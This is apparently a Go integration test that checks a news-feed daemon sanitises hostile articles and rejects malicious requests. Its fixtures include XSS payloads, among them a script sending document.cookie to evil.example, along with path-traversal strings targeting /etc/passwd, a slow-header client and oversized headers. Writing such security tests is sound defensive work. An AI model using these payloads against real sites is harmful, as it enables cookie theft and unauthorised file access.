//go:build unix

package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"seedfeed/internal/htmlcheck"
)

// What the HTTP bullets say, against the real daemon: hostile
// articles come out inert in pages and feeds, HTML pages carry a CSP,
// slug attacks get 404 and no file, other methods 405, huge headers 431,
// and a client that never finishes its headers is cut off.
func TestHostileInputOverHTTP(t *testing.T) {
	dir := t.TempDir()
	seeds := filepath.Join(dir, "seeds")
	cfg := writeConfig(t, dir, "  schedule: \"@every 1h\"\n  watch: false\n  settle: 0s\n")
	files := map[string]string{
		"script.txt": "The <script>alert('title')</script> harbour report\n\n" +
			"Residents said <script>document.location='https://evil.example/'+document.cookie</script> the wall " +
			"<img src=x onerror=alert(1)> needs <a href=\"javascript:alert(2)\">repairs</a> before winter, the council agreed.\n",
		"page.html": `<html><head><title>Council approves the new ferry pier</title></head><body><article>` +
			`<h1>Council approves the new ferry pier</h1>` +
			`<p onclick="alert(3)">The council approved the pier on Tuesday, <a href="javascript:alert(4)">the minutes</a> show, ` +
			`and <a href="JaVaScRiPt&colon;alert(5)">work</a> starts in May.<img src="x.png" onerror="alert(6)"></p>` +
			`<p>Building the pier will take two summers, the harbour master said, because of the tides in the bay.</p>` +
			`<script>alert(7)</script><iframe src="https://evil.example/"></iframe><style>body{display:none}</style>` +
			`<form action="https://evil.example/"><input name=q></form></article></body></html>`,
		"front.md": "---\ntitle: \"Market <script>alert(8)</script> day\"\nauthor: \"<img src=x onerror=alert(9)>\"\ntags: [\"<b onmouseover=alert(10)>x</b>\"]\n---\n\n" +
			"The market returns with [forty stalls](javascript:alert(11)) and <span onmouseover=\"alert(12)\">a band</span> on Saturday morning.\n\n<script>alert(13)</script>\n",
	}
	for name, body := range files {
		writeSeed(t, seeds, name, body)
	}
	secret := "SECRET-STATE-" + fmt.Sprint(time.Now().UnixNano())
	if err := os.WriteFile(filepath.Join(dir, "secret.txt"), []byte(secret), 0o644); err != nil {
		t.Fatal(err)
	}
	p := startHealthy(t, cfg)
	in := &instance{t: t, url: p.url, logs: p.logs}
	addr := strings.TrimPrefix(p.url, "http://")

	// A slow client that never finishes its headers, running alongside.
	var wg sync.WaitGroup
	wg.Go(func() {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Error(err)
			return
		}
		defer conn.Close()
		start := time.Now()
		io.WriteString(conn, "GET /feed.xml HTTP/1.1\r\nHost: x\r\n")
		for time.Since(start) < 20*time.Second {
			if _, err := io.WriteString(conn, "X-Slow: y\r\n"); err != nil {
				break
			}
			conn.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
			if _, err := conn.Read(make([]byte, 512)); err != nil && !isTimeout(err) {
				break // closed by the server
			}
		}
		if took := time.Since(start); took >= 20*time.Second {
			t.Errorf("a client dribbling headers was still connected after %v", took)
		}
	})

	// Pages: inert, with a Content-Security-Policy.
	var jf struct {
		Items []struct {
			URL         string `json:"url"`
			ContentHTML string `json:"content_html"`
		} `json:"items"`
	}
	_, jsonBody := in.get("/feed.json")
	if err := json.Unmarshal(jsonBody, &jf); err != nil || len(jf.Items) != len(files) {
		t.Fatalf("/feed.json: %d items (%v), want %d:\n%s", len(jf.Items), err, len(files), p.logs)
	}
	pagePaths := []string{"/", "/articles/no-such-article"}
	for _, it := range jf.Items {
		pagePaths = append(pagePaths, strings.TrimPrefix(it.URL, "http://news.example.org"))
		if err := htmlcheck.Inert(it.ContentHTML); err != nil {
			t.Errorf("/feed.json content_html: %v", err)
		}
	}
	for _, path := range pagePaths {
		resp, body := in.get(path)
		csp := resp.Header.Get("Content-Security-Policy")
		if !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "unsafe-inline") {
			t.Errorf("%s: Content-Security-Policy %q", path, csp)
		}
		if err := htmlcheck.Inert(string(body)); err != nil {
			t.Errorf("%s: %v", path, err)
		}
	}
	// Feeds: well-formed, and the HTML they carry for readers inert.
	for _, path := range []string{"/feed.xml", "/rss.xml"} {
		_, body := in.get(path)
		dec := xml.NewDecoder(bytes.NewReader(body))
		dec.Strict = true
		var inContent bool
		for {
			tok, err := dec.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", path, err)
			}
			switch tok := tok.(type) {
			case xml.StartElement:
				inContent = tok.Name.Local == "content" || tok.Name.Local == "encoded" || tok.Name.Local == "description" || tok.Name.Local == "summary"
			case xml.CharData:
				if inContent {
					if err := htmlcheck.Inert(string(tok)); err != nil {
						t.Errorf("%s: item HTML: %v", path, err)
					}
				}
			case xml.EndElement:
				inContent = false
			}
		}
	}

	// Slugs that try to leave the articles: 404, and nothing from disk.
	for _, target := range []string{
		"/articles/..%2f..%2fsecret.txt", "/articles/%2e%2e%2fsecret.txt", "/articles/../secret.txt",
		"/articles/..%5c..%5csecret.txt", "/articles/a%00", "/articles/" + strings.Repeat("a", 5000),
		"/articles/%2fetc%2fpasswd", "/articles//etc/passwd", "/secret.txt", "/state.db", "/config.yaml", "/../secret.txt",
	} {
		status, body := rawGet(t, addr, target, "")
		if status != http.StatusNotFound && status != http.StatusBadRequest {
			t.Errorf("GET %s: status %d, want 404", target, status)
		}
		if strings.Contains(body, secret) || strings.Contains(body, "root:") || strings.Contains(body, "SQLite format") {
			t.Errorf("GET %s served a file from disk", target)
		}
	}
	// Only GET and HEAD on feed and page routes.
	for _, path := range append([]string{"/feed.xml", "/rss.xml", "/feed.json", "/"}, pagePaths[2:]...) {
		for _, method := range []string{"POST", "PUT", "DELETE", "PATCH"} {
			req, _ := http.NewRequest(method, p.url+path, strings.NewReader("x"))
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusMethodNotAllowed {
				t.Errorf("%s %s: %d, want 405", method, path, resp.StatusCode)
			}
		}
	}
	// Headers past MaxHeaderBytes: 431.
	if status, _ := rawGet(t, addr, "/feed.xml", "X-Big: "+strings.Repeat("b", 64<<10)+"\r\n"); status != http.StatusRequestHeaderFieldsTooLarge {
		t.Errorf("64 KB of headers: status %d, want 431", status)
	}
	wg.Wait()
	if code, _ := p.get("/healthz"); code != http.StatusOK {
		t.Errorf("healthz %d after the attacks", code)
	}
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}

// rawGet sends target exactly as written, which http.Client would not.
func rawGet(t *testing.T, addr, target, extraHeaders string) (int, string) {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n", target, addr, extraHeaders)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("GET %s: %v", target, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}
